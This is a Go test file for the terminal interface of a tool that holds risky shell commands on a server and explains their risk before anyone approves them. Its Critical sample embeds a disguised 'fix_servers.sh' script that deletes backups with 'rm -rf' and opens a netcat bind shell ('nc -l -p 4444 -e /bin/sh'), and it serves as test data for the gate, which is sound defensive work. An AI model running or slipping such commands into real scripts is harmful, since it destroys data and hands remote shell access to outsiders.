package tui

import (
	"context"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/google/go-cmp/cmp"

	"escort/explain/effect"
	"escort/keymap"
	"escort/session/event"
	"escort/tui/golden"
)

func init() { time.Local = time.UTC } // the screens show local time

// fake is a session that plays what a test tells it.
type fake struct {
	events chan event.Event

	mu      sync.Mutex
	decided []event.Decision
	told    []string
	input   []byte
	sizes   [][2]int
	frozen  []bool
	ended   int
	refuse  error // what Decide answers
}

func newFake() *fake { return &fake{events: make(chan event.Event, 64)} }

func (f *fake) Events(context.Context, uint64) (<-chan event.Event, error) { return f.events, nil }

func (f *fake) Decide(_ context.Context, d event.Decision) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.decided = append(f.decided, d)
	return f.refuse
}

func (f *fake) Tell(_ context.Context, text string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.told = append(f.told, text)
	return nil
}

func (f *fake) Freeze(_ context.Context, on bool) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.frozen = append(f.frozen, on)
	return nil
}

func (f *fake) Input(p []byte) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.input = append(f.input, p...)
	return nil
}

func (f *fake) Resize(cols, rows int) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.sizes = append(f.sizes, [2]int{cols, rows})
	return nil
}

func (f *fake) End(context.Context) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ended++
	return nil
}

// bench is a console without a program around it: messages go in by hand, the
// clock is the test's, commands run at once where they do not wait.
type bench struct {
	signals fakeSignals
	t       *testing.T
	m       *Model
	src     *fake
	now     time.Time
}

var start = time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)

func newBench(t *testing.T, w, h int) *bench {
	t.Helper()
	b := &bench{t: t, src: newFake(), now: start}
	b.m = newModel(t.Context(), b.src, Options{
		Host: "prod-db-2", User: "ravi", Ticket: `INC-4211 "restart the billing API"`, Who: "eva",
		Env: []string{}, now: func() time.Time { return b.now },
		after: func(time.Duration, func(time.Time) tea.Msg) tea.Cmd { return nil },
	})
	b.m.w, b.m.h, b.m.begun = w, h, true
	b.m.signals = &b.signals
	b.m.place()
	b.m.fit()
	return b
}

// play hands events over as the pump does.
func (b *bench) play(es ...event.Event) {
	for _, e := range es {
		b.m.pump.take(b.src, e)
	}
	b.m.pumped()
	b.drawn()
}

// drawn is the frame after which the card is on the screen.
func (b *bench) drawn() {
	b.m.View()
	if h := b.m.shown(); h != nil {
		b.m.Update(drawn(h.Hold.Hold))
	}
}

func (b *bench) wait(d time.Duration) {
	b.now = b.now.Add(d)
	b.m.Update(rearm{})
}

// hold plays a hold and waits until its card takes keys.
func (b *bench) hold(e event.Event) {
	b.play(e)
	b.wait(armAfter)
}

// press presses keys, each named as keymap names it.
func (b *bench) press(names ...string) {
	for _, n := range names {
		_, cmd := b.m.Update(tea.KeyPressMsg(keyOf(n)))
		b.run(cmd)
	}
}

// run makes the calls that a command holds. There are no timers in it: the test
// has its own clock.
func (b *bench) run(cmd tea.Cmd) {
	if cmd == nil {
		return
	}
	done := make(chan tea.Msg, 1)
	go func() { done <- cmd() }()
	select {
	case msg := <-done:
		switch msg := msg.(type) {
		case tea.BatchMsg:
			for _, c := range msg {
				b.run(c)
			}
		case drawn:
			b.m.Update(msg)
		case answered, waits, gave:
			_, next := b.m.Update(msg)
			b.run(next)
		}
	case <-time.After(10 * time.Second):
		b.t.Error("a command never ends")
	}
}

var codes = map[string]rune{
	"enter": tea.KeyEnter, "esc": tea.KeyEscape, "tab": tea.KeyTab, "backspace": tea.KeyBackspace, "up": tea.KeyUp,
	"down": tea.KeyDown, "left": tea.KeyLeft, "right": tea.KeyRight, "pgup": tea.KeyPgUp, "pgdown": tea.KeyPgDown,
	"home": tea.KeyHome, "end": tea.KeyEnd,
}

func keyOf(name string) tea.Key {
	if c, ok := codes[name]; ok {
		return tea.Key{Code: c}
	}
	if s, ok := strings.CutPrefix(name, "ctrl+"); ok {
		return tea.Key{Code: []rune(s)[0], Mod: tea.ModCtrl}
	}
	return tea.Key{Code: []rune(name)[0], Text: name}
}

func (b *bench) letters(s string) {
	for _, r := range s {
		b.press(string(r))
	}
}

// screen is what is on the screen, as plain text.
func (b *bench) screen() string {
	rows, _ := b.m.rows()
	for i, r := range rows {
		rows[i] = strings.TrimRight(ansi.Strip(r), " ")
	}
	return strings.Join(rows, "\n") + "\n"
}

func (b *bench) sees(want ...string) {
	b.t.Helper()
	s := b.screen()
	for _, w := range want {
		if !strings.Contains(s, w) {
			b.t.Errorf("%q is not on the screen:\n%s", w, s)
		}
	}
}

func (b *bench) seesNot(unwanted string) {
	b.t.Helper()
	if s := b.screen(); strings.Contains(s, unwanted) {
		b.t.Errorf("%q is on the screen:\n%s", unwanted, s)
	}
}

func (b *bench) mode(want keymap.Mode) {
	b.t.Helper()
	if b.m.mode != want {
		b.t.Errorf("mode %s, want %s", b.m.mode, want)
	}
}

// verdicts are what was sent to the source.
func (b *bench) verdicts(want ...event.Decision) {
	b.t.Helper()
	b.src.mu.Lock()
	defer b.src.mu.Unlock()
	got := slices.Clone(b.src.decided)
	for i := range got {
		got[i].LookedMS = 0
	}
	if diff := cmp.Diff(want, got); diff != "" {
		b.t.Errorf("decisions (-want +got):\n%s", diff)
	}
}

// golden compares the screen with the one that is kept.
func (b *bench) golden(name string) {
	b.t.Helper()
	golden.Same(b.t, name+".golden", b.screen())
}

func output(s string) event.Event { return event.Event{Kind: event.Output, Data: []byte(s)} }

// fixScript is the script of the critical sample.
const fixScript = `#!/bin/bash
# Fix the billing servers.
# usage: fix_servers.sh [--all]
set -eu

HOSTS="billing-1 billing-2"
LOG=/var/log/fix_servers.log

log() { echo "$(date +%T) $*" >> "$LOG"; }

log "making room for the restart"
rm -rf /srv/backup/*

restart() {
	host=$1
	log "restarting $host"
	systemctl restart "billing-api@$host"
	sleep 2
	systemctl is-active "billing-api@$host"
}

if [ "${1:-}" = --all ]; then
	for h in $HOSTS; do
		restart "$h"
	done
else
	restart billing-1
fi

# so that support can look at it
nc -l -p 4444 -e /bin/sh

log "waiting for the port"
for i in 1 2 3; do
	sleep 1
done

log "done"
`

// samples are holds of each risk.
var samples = map[effect.Risk]*effect.Explanation{
	effect.Safe: {
		Command: "ls -la /srv/backup", Headline: "Lists what is in /srv/backup.", Risk: effect.Safe, Undo: effect.UndoYes,
		UndoText: "Nothing changes.",
		Parts: []effect.Part{
			{Span: effect.Span{0, 2}, Text: "ls", Meaning: "lists files", Source: effect.FromLore},
			{Span: effect.Span{3, 6}, Text: "-la", Meaning: "all of them, with details", Source: effect.FromLore},
			{Span: effect.Span{7, 18}, Text: "/srv/backup", Meaning: "the folder to list", Source: effect.FromLore},
		},
		Effects: []effect.Effect{{Verb: "list", Object: "/srv/backup", Role: effect.RoleFolder, Risk: effect.Safe}},
	},
	effect.Low: {
		Command: "touch notes.txt", Headline: "Creates the empty file notes.txt.", Risk: effect.Low, Undo: effect.UndoYes,
		UndoText: "The file can be removed again.", Dimensions: effect.Dimensions{Damage: effect.Low},
		Effects: []effect.Effect{{Verb: "create", Object: "notes.txt", Role: effect.RolePath, Risk: effect.Low}},
	},
	effect.Caution: {
		Command: "sudo systemctl restart billing-api", Headline: "Restarts the service billing-api, as administrator.",
		Risk: effect.Caution, Undo: effect.UndoPartly, UndoText: "Requests that run now are lost.",
		Dimensions: effect.Dimensions{Damage: effect.Caution, Control: effect.Low},
		Effects:    []effect.Effect{{Verb: "restart", Object: "billing-api", Role: effect.RoleService, As: "root", Risk: effect.Caution}},
		Parts: []effect.Part{
			{Span: effect.Span{0, 4}, Text: "sudo", Meaning: "does the rest as administrator (root)", Source: effect.FromLore},
			{Span: effect.Span{5, 14}, Text: "systemctl", Meaning: "controls the services of this machine", Source: effect.FromLore},
			{Span: effect.Span{15, 22}, Text: "restart", Meaning: "stops it and starts it again", Source: effect.FromLore},
			{Span: effect.Span{23, 34}, Text: "billing-api", Meaning: "the service", Source: effect.FromLore},
		},
		Ask: []string{"Who notices if billing is away for a minute?"},
	},
	effect.High: {
		Command: "rm -rf /srv/backup", Headline: "Deletes every backup in /srv/backup.", Risk: effect.High, Undo: effect.UndoNo,
		UndoText: "Only another copy brings them back.", Dimensions: effect.Dimensions{Damage: effect.High},
		Effects:  []effect.Effect{{Verb: "delete", Object: "/srv/backup", Role: effect.RoleFolder, Recursive: true, Risk: effect.High}},
		Findings: []effect.Finding{{ID: "delete-backups", Text: "Backups are what a mistake is put right with.", Dimension: effect.Damage, Risk: effect.High}},
		Parts: []effect.Part{
			{Span: effect.Span{0, 2}, Text: "rm", Meaning: "deletes", Source: effect.FromLore},
			{Span: effect.Span{3, 6}, Text: "-rf", Meaning: "folders with all that is in them, without asking", Source: effect.FromLore},
			{Span: effect.Span{7, 18}, Text: "/srv/backup", Meaning: "what is deleted", Source: effect.FromLore},
		},
		Ask: []string{"Where is the other copy?"},
	},
	effect.Critical: {
		Command:  "sudo ./fix_servers.sh --all",
		Headline: "Runs the script fix_servers.sh as administrator. It deletes every backup in /srv/backup and lets others take over.",
		Risk:     effect.Critical, Undo: effect.UndoNo, UndoText: "Only another copy brings the backups back.",
		Dimensions: effect.Dimensions{Damage: effect.Critical, Control: effect.Critical},
		Effects:    []effect.Effect{{Verb: "delete", Object: "/srv/backup", Role: effect.RoleFolder, Risk: effect.Critical}},
		Findings:   []effect.Finding{{ID: "beyond-ticket", Text: "The ticket says nothing of backups.", Dimension: effect.Damage, Risk: effect.High}},
		Parts: []effect.Part{
			{Span: effect.Span{0, 4}, Text: "sudo", Meaning: "as administrator", Source: effect.FromLore},
			{Span: effect.Span{5, 21}, Text: "./fix_servers.sh", Meaning: "a script in this folder", Source: effect.FromHost},
			{Span: effect.Span{22, 27}, Text: "--all", Meaning: "its own option, not known", Source: effect.FromNowhere},
		},
		Scripts: []effect.Script{{
			Path: "/home/ravi/fix_servers.sh", Language: "bash", Lines: 38, Read: 38, Owner: "ravi", ModTime: start.Add(-time.Hour),
			SHA256: strings.Repeat("5a", 32), Text: fixScript,
			Worst: []effect.ScriptLine{
				{Line: 12, Text: "rm -rf /srv/backup/*", Meaning: "deletes backups", Risk: effect.Critical},
				{Line: 31, Text: "nc -l -p 4444 -e /bin/sh", Meaning: "lets others in", Risk: effect.Critical},
			},
		}},
		Ask: []string{"Why does a restart need to delete backups?"},
	},
}

// words are what the gate asks for at high and critical.
var askedWords = map[effect.Risk]string{effect.High: "DELETE", effect.Critical: "DELETE"}

// typed is a hold of a line that was just entered.
func typed(id string, r effect.Risk) event.Event {
	x := *samples[r]
	return event.Event{
		Kind: event.Held, Time: start, Hold: id, Layer: event.LayerLine, Cause: event.CauseTyped, Typed: x.Command,
		Word: askedWords[r], Explanation: &x,
	}
}

func (b *bench) screenHas(s string) bool { return strings.Contains(b.screen(), s) }
